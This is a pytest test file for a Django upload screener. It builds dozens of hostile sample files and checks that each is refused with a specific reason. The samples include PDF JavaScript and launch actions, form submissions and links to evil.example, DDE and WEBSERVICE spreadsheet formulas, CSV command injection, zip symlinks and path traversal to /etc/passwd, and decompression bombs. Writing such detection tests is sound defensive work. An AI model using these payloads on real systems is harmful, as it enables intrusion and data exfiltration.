"""More than forty files that may not come in, each with its own reason; and one of every kind that may."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.utils.translation import override
from pikepdf import Array, Dictionary, Encryption, Name
from PIL import ImageFile

from applications.attachments import add_attachment
from applications.models import Attachment
from applications.refusals import Refusal
from applications.uploads import examine as examination
from applications.uploads import intake
from applications.uploads.intake import probe
from applications.uploads.probe import main
from applications.uploads.reasons import sentence
from applications.uploads.verdict import Unfit
from tests.samples import CSV, GEOJSON, open_document, open_xml, pdf, picture, related, zipped
from tests.workflow.pilot.conftest import content_of

if TYPE_CHECKING:
    from collections.abc import Callable

    from applications.models import Application
    from tests.workflow.pilot.conftest import Firm

LINK = 'xmlns:x="http://www.w3.org/1999/xlink"'
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


def _with(**entries: Any) -> bytes:
    """A PDF whose catalogue has these entries."""
    return pdf(root=lambda document: document.Root.update(Dictionary(**entries)))


def _outside(document: Any) -> Any:
    """A stream whose content lies in another file."""
    stream = document.make_stream(b"x")
    stream.F = "//evil.example/share/x"
    return stream


def _sheet(formula: str) -> bytes:
    """A table with one formula."""
    part = f"<worksheet><f>{formula}</f></worksheet>"
    return open_xml("xl/workbook.xml", "spreadsheetml.sheet", parts={"xl/worksheets/sheet1.xml": part})


def _cell(formula: str) -> bytes:
    """The same in OpenDocument."""
    return open_document("spreadsheet", body=f"<t xmlns:o='urn:o'><c o:formula='of:={formula}'/></t>")


def _nested(depth: int) -> Any:
    found = Array([])
    for _level in range(depth):
        found = Array([found])
    return found


def _carrying(content: bytes, **facts: Any) -> bytes:
    def put(document: Any) -> None:
        stream = document.make_stream(content, **facts)
        document.Root.Carried = Dictionary(Type=Name.Filespec, UF="payload.bin", EF=Dictionary(F=stream))

    return pdf(root=put)


def _png_of(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", b"noise") + chunk(b"IEND", b"")


def _encrypted_zip() -> bytes:
    whole = bytearray(open_xml())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := whole.find(mark, start)) >= 0:
            whole[start + place] |= 1
            start += 1
    return bytes(whole)


def _jpeg_with_comment(words: bytes) -> bytes:
    whole = picture("JPEG")
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + whole[2:]


def _zip_of(change: Callable[[zipfile.ZipFile], None]) -> bytes:
    """An office file to which something was added by hand."""
    out = io.BytesIO(open_xml())
    with zipfile.ZipFile(out, "a") as archive:
        change(archive)
    return out.getvalue()


def _linked() -> bytes:
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    return _zip_of(lambda archive: archive.writestr(link, "/etc/passwd"))


def _overlapping() -> bytes:
    """The table says that the first entry reaches into the second (and every one is read from the same bytes)."""
    whole = bytearray(zipped({"a": bytes(200), "b": bytes(200)}))
    row = whole.find(b"PK\x01\x02")
    whole[row + 20 : row + 24] = struct.pack("<I", 60)
    return bytes(whole)


def _torn_within() -> bytes:
    """One byte of a stored part is another: its checksum tells."""
    plain = _zip_of(lambda archive: archive.writestr("word/media/a.bin", b"stored as it is", zipfile.ZIP_STORED))
    return plain.replace(b"stored as it is", b"stored as it was"[:15])


WORD = "word/document.xml"
HOSTILE: list[tuple[str, bytes, str]] = [
    ("nothing.pdf", b"", "empty"),
    ("program.pdf", b"MZ\x90\x00\x03\x00", "program"),
    ("script.csv", b"#!/bin/sh,\nrm -rf", "program"),
    ("elf.png", b"\x7fELF\x02\x01\x01\x00", "program"),
    ("archive.docx", zipped({"file": b"x"}), "archive"),
    ("archive.pdf", b"Rar!\x1a\x07\x01\x00", "archive"),
    ("drawing.png", b'<?xml version="1.0"?><svg><script>alert(1)</script></svg>', "svg"),
    ("page.csv", b"<!DOCTYPE html><html>,<script>", "web_page"),
    ("words.csv", b"no separator here", "unknown"),
    ("print.csv", b"%!PS-Adobe,3.0", "unknown"),
    ("zero.csv", b"a,b\x00", "unknown"),
    ("late.pdf", b"GIF89a" + pdf(), "two_kinds"),
    # PDF
    ("broken.pdf", b"%PDF-1.7\nnothing", "pdf_broken"),
    ("cut.pdf", pdf()[:-40], "pdf_broken"),
    ("table.pdf", pdf().replace(b"xref", b"xxxx"), "pdf_broken"),
    ("locked.pdf", pdf(encryption=Encryption(user="a", owner="b")), "pdf_encrypted"),
    ("owned.pdf", pdf(encryption=Encryption(user="", owner="b")), "pdf_encrypted"),
    ("script.pdf", _with(OpenAction=Dictionary(S=Name.JavaScript, JS="app.alert(1)")), "pdf_script"),
    ("deep.pdf", _with(AA=Array([Dictionary(X=Dictionary(JS="x"))])), "pdf_script"),
    ("launch.pdf", _with(OpenAction=Dictionary(S=Name.Launch, F="cmd.exe")), "pdf_action"),
    ("send.pdf", _with(OpenAction=Dictionary(S=Name.SubmitForm, F="https://evil.example")), "pdf_action"),
    ("read.pdf", _with(OpenAction=Dictionary(S=Name.URI, URI="https://evil.example/read")), "pdf_action"),
    ("then.pdf", _with(OpenAction=Dictionary(S=Name.GoTo, Next=Array([Dictionary(S=Name.URI, URI="https://x.y")]))), "pdf_action"),  # noqa: E501 - a row of the table
    ("page.pdf", _with(AA=Dictionary(O=Dictionary(S=Name.URI, URI="https://evil.example/page"))), "pdf_action"),
    ("share.pdf", _with(A=Dictionary(S=Name.URI, URI="file://evil.example/share")), "pdf_action"),
    ("unc.pdf", _with(A=Dictionary(S=Name.URI, URI="\\\\evil.example\\share")), "pdf_action"),
    ("javascript.pdf", _with(A=Dictionary(S=Name.URI, URI=" JavaScript:alert(1)")), "pdf_action"),
    ("thread.pdf", _with(A=Dictionary(S=Name.Thread, F="other.pdf")), "pdf_action"),
    ("outside.pdf", pdf(root=lambda document: document.Root.update(Dictionary(X=_outside(document)))), "pdf_action"),
    ("reference.pdf", _with(X=Dictionary(Ref=Dictionary(F="//evil.example/x.pdf"))), "pdf_action"),
    ("film.pdf", _with(Extra=Dictionary(Subtype=Name.RichMedia)), "pdf_media"),
    ("xfa.pdf", _with(AcroForm=Dictionary(XFA="x")), "pdf_form"),
    ("carrier.pdf", _carrying(b"MZ\x90\x00"), "pdf_carries"),
    ("page-in.pdf", _carrying(b"<html><script>"), "pdf_carries"),
    ("zip-behind.pdf", pdf() + zipped({"a": b"b"}), "trailing"),
    ("zip-around.pdf", pdf() + zipped({"a": b"b"}, comment=b"%%EOF"), "two_kinds"),
    ("no-page.pdf", pdf(root=lambda document: document.pages.__delitem__(0)), "pdf_broken"),
    ("too-deep.pdf", _with(Deep=_nested(60)), "pdf_broken"),
    ("packed.pdf", _carrying(zlib.compress(b"#!/bin/sh"), Filter=Name.FlateDecode), "pdf_carries"),
    ("oddly-packed.pdf", _carrying(b"61>", Filter=Name.ASCIIHexDecode), "pdf_carries"),
    # pictures
    ("cut.png", picture()[:-6], "image_broken"),
    ("long.png", picture()[:8] + b"\x7f" + picture()[9:], "image_broken"),
    ("changed.png", picture()[:20] + b"\x7f" + picture()[21:], "image_broken"),
    ("noise.png", _png_of(4, 4), "image_broken"),
    ("cut.jpg", picture("JPEG")[:-2], "image_broken"),
    ("head.jpg", picture("JPEG")[:20], "image_broken"),
    ("unknown-mark.jpg", picture("JPEG")[:2] + b"\xff\x01" + picture("JPEG")[2:], "image_broken"),
    ("noise.jpg", b"\xff\xd8\xff\xe0\x00\x04noise", "image_broken"),
    ("bomb.png", _png_of(60_000, 60_000), "image_pixels"),
    ("zip-behind.png", picture() + zipped({"a": b"b"}), "trailing"),
    ("page-behind.jpg", picture("JPEG") + b"<script>alert(1)</script>", "trailing"),
    ("pdf-within.jpg", _jpeg_with_comment(b"%PDF-1.7 %%EOF"), "two_kinds"),
    ("page-within.jpg", _jpeg_with_comment(b"<html><script>"), "two_kinds"),
    # office files
    ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "office_old"),
    ("locked.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "office_encrypted"),
    ("locked-zip.docx", _encrypted_zip(), "office_encrypted"),
    ("macro.docx", open_xml(parts={"word/vbaProject.bin": b""}), "macros"),
    ("hidden-macro.docx", open_xml(types={"word/x.bin": "application/vnd.ms-office.vbaProject"}), "macros"),
    ("renamed.docx", open_xml(types={WORD: "application/vnd.ms-word.document.macroEnabled.main+xml"}), "macros"),
    ("macro.odt", open_document(**{"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    ("template.docx", open_xml(main=False), "office_other"),
    ("drawing.odg", open_document("graphics"), "office_other"),
    ("template-from.docx", open_xml(parts=related("attachedTemplate", "https://evil.example/t.dotm")), "office_external"),  # noqa: E501 - a row of the table
    ("share.docx", open_xml(parts=related("hyperlink", "file://evil.example/share")), "office_external"),
    ("picture.docx", open_xml(parts=related("image", "https://evil.example/i.png")), "office_external"),
    ("picture.odt", open_document(body=f'<a {LINK}><image x:href="https://evil.example/i.png"/></a>'), "office_external"),  # noqa: E501 - a row of the table
    ("command.docx", open_xml(body="<d><instrText>DDE</instrText><instrText>AUTO c:\\\\x</instrText></d>"), "office_command"),  # noqa: E501 - a row of the table
    ("field.docx", open_xml(body='<d><fldSimple instr="DDEAUTO c:\\\\x"/></d>'), "office_command"),
    ("command.xlsx", open_xml("xl/workbook.xml", "spreadsheetml.sheet", body="<x><ddeLink/></x>"), "office_command"),
    ("dde.xlsx", _sheet("cmd|'/C calc'!A0"), "office_command"),
    ("service.xlsx", _sheet('_xlfn.WEBSERVICE("https://evil.example/")'), "office_command"),
    ("dde.ods", _cell("DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"), "office_command"),
    ("small.docx", open_xml(body="<d><instrText>ddeauto c:\\\\x</instrText></d>"), "office_command"),
    ("odd-part.docx", open_xml(parts={"word/header1.dat": "<d><instrText>DDEAUTO x</instrText></d>"}), "office_command"),  # noqa: E501 - a row of the table
    ("text-of.docx", open_xml(body=r'<d><instrText>INCLUDETEXT "\\\\evil.example\x.docx"</instrText></d>'), "office_command"),  # noqa: E501 - a row of the table
    ("script.odt", open_document(body=f"<x xmlns:t='{TEXT}'><t:script>x</t:script></x>"), "macros"),
    ("form.odt", open_document(body="<x><submission action='https://evil.example/'/></x>"), "office_external"),
    ("beside.odt", open_document(body=f'<a {LINK}><image x:href="../../etc/passwd"/></a>'), "office_external"),
    ("drawing.docx", open_xml(parts={"word/media/a.svg": "<svg onload='x()'/>"}), "office_object"),
    ("shortcut.docx", open_xml(parts={"word/media/a.png": b"L\x00\x00\x00\x01\x14\x02\x00"}), "office_object"),
    ("chunk.docx", open_xml(parts=related("aFChunk", "page.htm")), "office_object"),
    ("locked-part.odt", open_document(body="<x><encryption-data/></x>"), "office_encrypted"),
    ("event.odt", open_document(body="<x><event-listener/></x>"), "macros"),
    ("link.docx", _linked(), "zip_names"),
    ("over.docx", _overlapping(), "zip_bomb"),
    ("changed.docx", _torn_within(), "zip_broken"),
    ("packed.docx", _zip_of(lambda archive: archive.writestr("x.bin", b"x", zipfile.ZIP_LZMA)), "zip_broken"),
    ("many.docx", zipped(dict.fromkeys(map(str, range(10_001)), b"")), "zip_bomb"),
    ("object.docx", open_xml(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "office_object"),
    ("laughs.docx", open_xml(body='<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'), "office_entities"),
    ("cut.docx", open_xml()[:-30], "zip_broken"),
    ("torn.docx", open_xml(body="<x>"), "zip_broken"),
    ("bomb.xlsx", open_xml("xl/workbook.xml", "spreadsheetml.sheet", parts={"xl/a.xml": bytes(30_000_000)}), "zip_bomb"),  # noqa: E501 - a row of the table
    ("path.docx", open_xml(parts={"../../etc/cron.d/x": b""}), "zip_names"),
    ("twice.docx", open_xml(parts={"Word/Document.xml": b"<x/>"}), "zip_names"),
    ("nested.docx", open_xml(parts={"word/media/more.zip": zipped({"a": b"b"})}), "zip_nested"),
    ("behind.docx", open_xml() + b"<script>", "trailing"),
    ("before.odt", zipped({"mimetype": b"x"}, comment=b"%PDF-1.7 %%EOF"), "two_kinds"),
    # text
    ("long.csv", b"a,b\n" * 5_300_000, "text_long"),
    ("bytes.csv", b"a,\xff\xfe", "csv_encoding"),
    ("sixteen.csv", "a,b".encode("utf-16"), "csv_encoding"),
    ("open.csv", b'a,b\n"c,d', "csv_broken"),
    ("command.csv", b"a,b\n=cmd|' /C calc'!A0,1", "csv_command"),
    ("program.csv", b'a,b\n=DDE("soffice";"x";"y"),2', "csv_command"),
    ("address.csv", b'a,b\n=webservice("https://evil.example/"&A1),2', "csv_command"),
    ("sylk.csv", b'ID;P\nC;X1;Y1;EEXEC("CALC.EXE")\nE', "unknown"),
    ("high.geojson", b'{"type": "Point", "coordinates": [1, 2, 1e999]}', "geojson_shape"),
    ("system.geojson", b'{"type": "Point", "coordinates": [1, 2], "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3405"}}}', "geojson_place"),  # noqa: E501 - a row of the table
    ("fetched.geojson", b'{"type": "Point", "coordinates": [1, 2], "crs": {"type": "link", "properties": {"href": "https://evil.example/"}}}', "geojson_place"),  # noqa: E501 - a row of the table
    ("no-system.geojson", b'{"type": "Point", "coordinates": [1, 2], "crs": "EPSG:4326"}', "geojson_place"),
    ("torn.geojson", b'{"type": "Point"', "geojson_broken"),
    ("deep.geojson", b'{"a":' * 100_000, "geojson_broken"),
    ("number.geojson", b'{"type": "Point", "coordinates": [NaN, 1]}', "geojson_broken"),
    ("other.geojson", b'{"type": "Nothing"}', "geojson_shape"),
    ("rows.geojson", b'{"type": "FeatureCollection", "features": [{"type": "Point"}]}', "geojson_shape"),
    ("no-rows.geojson", b'{"type": "FeatureCollection"}', "geojson_shape"),
    ("chain.geojson", b'{"type": "GeometryCollection", "geometries": [{"type": "GeometryCollection"}]}', "geojson_shape"),  # noqa: E501 - a row of the table
    ("nowhere.geojson", b'{"type": "Point", "coordinates": []}', "geojson_shape"),
    ("half.geojson", b'{"type": "Point", "coordinates": [1]}', "geojson_shape"),
    ("open.geojson", b'{"type": "Polygon", "coordinates": [[[1, 1], [2, 2], [3, 1]]]}', "geojson_shape"),
    ("vn2000.geojson", b'{"type": "Point", "coordinates": [603412.5, 1193874.2]}', "geojson_place"),
    # names
    ("...", pdf(), "name_empty"),
    ("../../etc/passwd", pdf(), "name_path"),
    ("C:\\temp\\x.pdf", pdf(), "name_path"),
    ("invoice\u202efdp.exe", pdf(), "name_direction"),
    ("line\nbreak.pdf", pdf(), "name_control"),
    ("a" * 201 + ".pdf", pdf(), "name_long"),
    ("NUL.pdf", pdf(), "name_reserved"),
    ("run.exe", pdf(), "name_program"),
    ("invoice.pdf.exe", pdf(), "name_double"),
    ("photo.php.jpg", picture("JPEG"), "name_double"),
]  # fmt: skip

HARMLESS: list[tuple[str, bytes, str]] = [
    ("đề án.PDF", pdf("Đề án"), "pdf"),
    ("hoá đơn.pdf", _carrying(b"<invoice/>"), "pdf"),
    ("hoá đơn gói.pdf", _carrying(zlib.compress(b"<invoice/>"), Filter=Name.FlateDecode), "pdf"),
    ("linked.pdf", _with(A=Array([Dictionary(S=Name.URI, URI=to) for to in ("https://a.vn/", "a.htm", "file:///C:/a")])), "pdf"),  # noqa: E501 - a row of the table
    ("bars.xlsx", _sheet("A1&amp;&quot;|&quot;&amp;'A|B'!C1"), "xlsx"),
    ("notes.xlsx", open_xml("xl/workbook.xml", "spreadsheetml.sheet", parts={"xl/drawings/v.vml": "<xml><br></xml>"}), "xlsx"),  # noqa: E501 - a row of the table
    ("vectors.docx", open_xml(parts={"word/media/a.svg": "<!DOCTYPE svg><svg><path d='M0 0'/></svg>"}), "docx"),
    ("chart.ods", open_document("spreadsheet", **{"Object 1/content.xml": f'<c {LINK}><d x:href=".."/></c>'}), "ods"),
    ("system.json", b'{"type": "Point", "coordinates": [1, 2], "crs": {"properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}}', "geojson"),  # noqa: E501 - a row of the table
    ("list.csv", b"ID;Ph\xc6\xb0\xe1\xbb\x9dng\n1;B\xe1\xba\xbfn\n", "csv"),
    ("a.PNG", picture(), "png"),
    ("filled.jpg", picture("JPEG")[:2] + b"\xff" + picture("JPEG")[2:], "jpg"),
    ("a.jpeg", picture("JPEG"), "jpg"),
    ("two.jpg", picture("JPEG") + b"\0\0" + picture("JPEG"), "jpg"),
    ("a.docx", open_xml(parts=related("hyperlink", "https://example.org/")), "docx"),
    ("own.docx", open_xml(parts=related("attachedTemplate", "file:///C:\\\\Templates\\\\a.dotx")), "docx"),
    ("chart.docx", open_xml(parts={"word/embeddings/t.xlsx": open_xml("xl/workbook.xml", "spreadsheetml.sheet")}), "docx"),  # noqa: E501 - a row of the table
    ("a.xlsx", open_xml("xl/workbook.xml", "spreadsheetml.sheet"), "xlsx"),
    ("a.pptx", open_xml("ppt/presentation.xml", "presentationml.presentation"), "pptx"),
    ("a.odt", open_document(body=f'<t {LINK}><a x:href="https://example.org/"/></t>'), "odt"),
    ("a.ods", open_document("spreadsheet"), "ods"),
    ("a.odp", open_document("presentation"), "odp"),
    ("a.json", GEOJSON, "geojson"),
    ("nowhere.json", b'{"type": "Feature", "geometry": null}', "geojson"),
    ("b.geojson", (b'{"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": {"type": '
     b'"GeometryCollection", "geometries": [{"type": "Polygon", "coordinates": [[[1, 1], [2, 2], [3, 1], [1, 1]]]}]}}]}'),  # noqa: E501 - a row of the table
     "geojson"),
    ("a.csv", CSV, "csv"),
]  # fmt: skip


def _stored() -> list[Path]:
    return [path for path in Path(settings.MEDIA_ROOT).rglob("*") if path.is_file()]


def test_every_hostile_file_is_refused_with_its_own_reason_and_leaves_nothing(pilot: Application, firm: Firm) -> None:
    one_of_each = list({code: row for row in HOSTILE for code in [row[2]]}.values())
    assert len(one_of_each) >= 40
    before, found = _stored(), {}
    with override("en"):
        for name, content, _code in one_of_each:
            file: ContentFile[bytes] = ContentFile(content, name)
            try:
                add_attachment(pilot, by=firm.founder, component="scheme", title="Đề án", file=file, in_pieces=True)
            except Refusal as refusal:
                found[name] = (str(refusal.reason)[:20], refusal.field)
        expected = {name: (sentence(code)[:20], "file") for name, _content, code in one_of_each}
    assert found == expected
    assert not Attachment.objects.exists()
    assert _stored() == before
    assert "attachments" not in content_of(pilot)


@pytest.mark.parametrize(("name", "content", "code"), HOSTILE, ids=[row[0][:20] for row in HOSTILE])
def test_examination_tells_the_code(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, content: bytes, code: str
) -> None:
    """In this process, so that every branch is counted; WeasyPrint makes the reader of pictures lenient here."""
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", False)
    path = tmp_path / "file"
    path.write_bytes(content)
    if not code.startswith("name") and code != "empty":
        assert main(str(path))["code"] == code


@pytest.mark.parametrize(("name", "content", "ending"), HARMLESS, ids=[row[0] for row in HARMLESS])
def test_harmless_files_pass(tmp_path: Path, name: str, content: bytes, ending: str) -> None:
    path = tmp_path / "file"
    path.write_bytes(content)
    assert main(str(path)) == {"kind": ending, "notes": []}


def test_an_examination_takes_no_longer_than_it_may(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_bytes(CSV)
    monkeypatch.setattr(intake, "PROBE_SECONDS", 0.001)
    with pytest.raises(Unfit, match="too_hard"):
        probe(path)


def test_a_name_without_an_ending_gets_that_of_its_content() -> None:
    assert intake.admit(ContentFile(CSV, "bảng")).name == "bảng.csv"


def test_formulas_are_noted(tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_bytes(b"a;b\n=1+1;2\n")
    assert main(str(path)) == {"kind": "csv", "notes": ["formulas"]}


def test_an_examination_that_dies_has_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(Unfit, match="too_hard"):
        probe(tmp_path / "absent")
    monkeypatch.setattr(examination, "_by_signature", lambda *_args: (_ for _ in ()).throw(MemoryError))
    path = tmp_path / "file"
    path.write_bytes(CSV)
    assert main(str(path))["code"] == "too_hard"
